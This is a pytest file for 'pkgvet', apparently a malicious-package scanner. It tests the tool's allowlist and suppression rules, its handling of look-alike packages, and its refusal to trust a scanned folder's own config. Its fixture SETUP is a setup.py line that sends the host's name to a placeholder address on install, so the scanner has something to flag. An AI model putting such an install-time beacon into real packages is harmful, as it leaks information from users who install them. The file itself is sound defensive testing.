"""`[tool.pkgvet]`: allowlist and suppressions, applied to real scans through the CLI."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

from builders import make_sdist, make_wheel

SETUP = "import socket, requests\nrequests.get('https://x.invalid/?h=' + socket.gethostname())\n"


def run(*args: str, cwd: Path) -> subprocess.CompletedProcess[str]:
    exe = Path(sys.executable).with_name("pkgvet")
    return subprocess.run([str(exe), *args], capture_output=True, text=True, cwd=cwd,
                          timeout=120, env=dict(os.environ))


def test_suppressed_findings_stay_marked_and_stop_counting(tmp_path: Path) -> None:
    sdist = make_sdist(tmp_path, "beacon", "1.0", {"setup.py": SETUP})
    before = json.loads(run("scan", str(sdist), "-f", "json", cwd=tmp_path).stdout)["results"][0]
    assert before["verdict"] == "malicious"
    (tmp_path / "pyproject.toml").write_text(
        "[tool.pkgvet]\n"
        'suppress = [{ rule = "PV304", package = "beacon", reason = "our own probe" },\n'
        '            { rule = "PV104", reason = "internal mirror check" }]\n'
    )
    proc = run("scan", str(sdist), "-f", "json", cwd=tmp_path)
    after = json.loads(proc.stdout)["results"][0]
    marked = {f["rule_id"]: f for f in after["findings"] if f["suppressed"]}
    assert {"PV304", "PV104"} <= set(marked)
    assert "our own probe" in marked["PV304"]["suppression_reason"]
    assert after["verdict"] == "benign" and proc.returncode == 0


def test_allow_by_version_and_config_without_reason(tmp_path: Path) -> None:
    sdist = make_sdist(tmp_path, "beacon", "1.0", {"setup.py": SETUP})
    cfg = tmp_path / "team.toml"
    cfg.write_text('[tool.pkgvet]\nallow = [{ package = "Beacon", version = "1.0", '
                   'reason = "reviewed" }]\n')
    proc = run("scan", str(sdist), "-f", "json", "--config", str(cfg), cwd=tmp_path)
    result = json.loads(proc.stdout)["results"][0]
    assert result["verdict"] == "benign" and proc.returncode == 0
    reasons = {f["suppression_reason"] for f in result["findings"] if f["suppressed"]}
    assert reasons and all("version 1.0" in r and "reviewed" in r for r in reasons)
    cfg.write_text('[tool.pkgvet]\nallow = [{ package = "beacon" }]\n')
    bad = run("scan", str(sdist), "--config", str(cfg), cwd=tmp_path)
    assert bad.returncode == 3 and "has no reason" in bad.stderr


def test_name_only_allow_does_not_cover_a_local_file(tmp_path: Path) -> None:
    sdist = make_sdist(tmp_path, "beacon", "1.0", {"setup.py": SETUP})
    cfg = tmp_path / "team.toml"
    cfg.write_text('[tool.pkgvet]\nallow = [{ package = "beacon", reason = "ours" }]\n')
    env_cfg = {**os.environ, "PKGVET_CONFIG": str(cfg)}
    proc = subprocess.run([str(Path(sys.executable).with_name("pkgvet")), "scan", str(sdist),
                           "-f", "json"], capture_output=True, text=True, cwd=tmp_path,
                          timeout=120, env=env_cfg)
    assert json.loads(proc.stdout)["results"][0]["verdict"] == "malicious"


def test_a_scanned_folders_own_config_is_ignored(tmp_path: Path) -> None:
    suspect = tmp_path / "suspect"
    suspect.mkdir()
    (suspect / "setup.py").write_text(SETUP)
    (suspect / "PKG-INFO").write_text("Metadata-Version: 2.1\nName: cfgdemo\nVersion: 1.0\n")
    (suspect / "pyproject.toml").write_text(
        "[tool.pkgvet]\n"
        'allow = [{ package = "cfgdemo", version = "1.0", reason = "reviewed upstream" }]\n'
        'suppress = [{ rule = "PV304", reason = "fine" }, { rule = "PV104", reason = "fine" }]\n'
    )
    inside = run("scan", ".", "-f", "json", cwd=suspect)
    assert json.loads(inside.stdout)["results"][0]["verdict"] == "malicious"
    assert inside.returncode == 2 and "ignoring" in inside.stderr
    assert "pyproject.toml" in inside.stderr
    deeper = suspect / "sub"
    deeper.mkdir()
    below = run("scan", "..", "-f", "json", cwd=deeper)
    assert below.returncode == 2 and "ignoring" in below.stderr
    outside = run("scan", str(suspect), "-f", "json", cwd=tmp_path)
    assert json.loads(outside.stdout)["results"][0]["verdict"] == "malicious"
    # the user's own project config beside a scanned *file* still applies
    sdist = make_sdist(tmp_path, "beacon", "1.0", {"setup.py": SETUP})
    (tmp_path / "pyproject.toml").write_text(
        '[tool.pkgvet]\nsuppress = [{ rule = "PV304", reason = "ours" }, '
        '{ rule = "PV104", reason = "ours" }]\n')
    mine = run("scan", str(sdist), "-f", "json", cwd=tmp_path)
    assert mine.returncode == 0 and "ignoring" not in mine.stderr


def test_a_look_alike_file_does_not_match_an_allow_entry(tmp_path: Path) -> None:
    """`totally-different-1.0.tar.gz` says `Name: internal-tool` in PKG-INFO: neither the
    allow entry nor a package-scoped suppression matches it, and PV502 stays counted."""
    cfg = tmp_path / "team.toml"
    cfg.write_text(
        "[tool.pkgvet]\n"
        'allow = [{ package = "internal-tool", version = "1.0", reason = "ours" }]\n'
        'suppress = [{ rule = "PV304", package = "internal-tool", reason = "ours" },\n'
        '            { rule = "PV502", package = "internal-tool", reason = "ours" }]\n'
    )
    files = {"setup.py": SETUP, "PKG-INFO": "Metadata-Version: 2.1\nName: internal-tool\n"
             "Version: 1.0\n"}
    look_alike = make_sdist(tmp_path, "totally-different", "1.0", files)
    proc = run("scan", str(look_alike), "-f", "json", "--config", str(cfg), cwd=tmp_path)
    result = json.loads(proc.stdout)["results"][0]
    assert result["name"] == "internal-tool"
    assert not any(f["suppressed"] for f in result["findings"])
    assert any(f["rule_id"] == "PV502" for f in result["findings"])
    assert result["verdict"] == "malicious" and proc.returncode == 2
    # the real file, same content: allowed; another version of it: not
    real = make_sdist(tmp_path, "internal-tool", "1.0", files)
    assert run("scan", str(real), "--config", str(cfg), cwd=tmp_path).returncode == 0
    newer = make_sdist(tmp_path, "internal-tool", "1.1", {
        "setup.py": SETUP, "PKG-INFO": "Metadata-Version: 2.1\nName: internal-tool\n"
        "Version: 1.1\n"})
    only_allow = tmp_path / "allow.toml"
    only_allow.write_text('[tool.pkgvet]\nallow = [{ package = "internal-tool", '
                          'version = "1.0", reason = "ours" }]\n')
    assert run("scan", str(real), "--config", str(only_allow), cwd=tmp_path).returncode == 0
    assert run("scan", str(newer), "--config", str(only_allow), cwd=tmp_path).returncode == 2


def test_name_only_allow_covers_files_from_the_index_and_says_so(tmp_path: Path) -> None:
    root = tmp_path / "simple" / "beacon"
    root.mkdir(parents=True)
    make_wheel(root, "beacon", "1.0", {"beacon/__init__.py": SETUP})
    project = tmp_path / "project"
    project.mkdir()
    (project / "requirements.txt").write_text("beacon==1.0\n")
    (project / "pyproject.toml").write_text(
        '[tool.pkgvet]\nallow = [{ package = "beacon", reason = "our internal index" }]\n')
    env = {**os.environ, "PKGVET_CACHE_DIR": str(tmp_path / "cache")}
    index = (tmp_path / "simple").as_uri()
    proc = subprocess.run([str(Path(sys.executable).with_name("pkgvet")), "audit",
                           "requirements.txt", "--index-url", index, "-f", "json"],
                          capture_output=True, text=True, cwd=project, timeout=120, env=env)
    result = json.loads(proc.stdout)["results"][0]
    assert result["verdict"] == "benign", proc.stderr
    reasons = {f["suppression_reason"] for f in result["findings"] if f["suppressed"]}
    assert reasons and all(f"by name, for files from {index}" in r for r in reasons)
